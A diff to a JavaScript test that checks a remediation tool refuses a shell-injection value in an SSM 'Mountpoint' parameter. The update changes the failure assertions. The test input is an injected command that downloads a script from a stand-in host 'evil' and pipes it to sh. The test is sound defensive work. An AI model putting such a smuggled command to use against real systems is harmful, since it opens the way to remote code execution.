@@ -98,7 +98,8 @@ describe('shell injection into SSM through alert labels', () => {
     const outcome = await stepOutcome(id);
     const reason = "parameter `Mountpoint` value `/'; curl evil|sh; '` does not match `^/[A-Za-z0-9/_.-]*$` (document Medic-CleanDisk)";
     expect(outcome.message).toContain(`(clean-up-disk) failed: refused: ${reason}`);
-    expect(outcome.data).toMatchObject({ refused: reason, failed: true });
+    expect(outcome.kind).toBe('action.failed');
+    expect(outcome.data).toMatchObject({ details: { refused: reason } });
     expect(await commandsFor(MANAGED_ATTACKED)).toEqual([]);
     expect(await auditedFailure(id)).toEqual([expect.stringContaining(reason)]);
   });
